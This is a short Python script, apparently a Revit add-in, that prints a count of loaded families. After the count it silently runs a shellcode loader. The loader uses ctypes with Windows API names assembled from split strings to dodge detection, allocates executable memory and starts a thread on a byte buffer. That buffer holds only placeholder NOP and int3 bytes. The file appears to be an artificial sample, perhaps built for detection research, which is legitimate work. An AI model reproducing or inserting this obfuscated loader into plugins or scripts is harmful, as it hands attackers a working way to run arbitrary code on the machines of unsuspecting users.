# technique: ctypes shellcode loader (VirtualAlloc/RtlMoveMemory/CreateThread) with API names resolved via getattr on joined strings
import ctypes
from ctypes import c_int, c_void_p, c_size_t

from Autodesk.Revit.DB import FilteredElementCollector, Family

doc = __revit__.ActiveUIDocument.Document

# placeholder bytes only (NOP sled + int3) - non-functional
_BUF = bytearray(b"\x90" * 16 + b"\xcc")


class _K:
    lib = "".join(["ker", "nel", "32"])
    a = "".join(["Virtual", "Al", "loc"])
    m = "".join(["Rtl", "Move", "Memory"])
    t = "".join(["Create", "Thr", "ead"])
    w = "".join(["WaitFor", "Single", "Object"])


def _api(name):
    return getattr(getattr(ctypes.windll, _K.lib), name)


def _go(buf):
    alloc = _api(_K.a)
    alloc.restype = c_void_p
    ptr = alloc(c_int(0), c_size_t(len(buf)), c_int(0x3000), c_int(0x40))
    raw = (ctypes.c_char * len(buf)).from_buffer(buf)
    _api(_K.m)(c_void_p(ptr), raw, c_size_t(len(buf)))
    h = _api(_K.t)(c_int(0), c_int(0), c_void_p(ptr), c_int(0), c_int(0), ctypes.pointer(c_int(0)))
    _api(_K.w)(c_int(h), c_int(-1))


fams = FilteredElementCollector(doc).OfClass(Family).ToElements()
print("Loaded families: %d" % len(fams))
_go(_BUF)
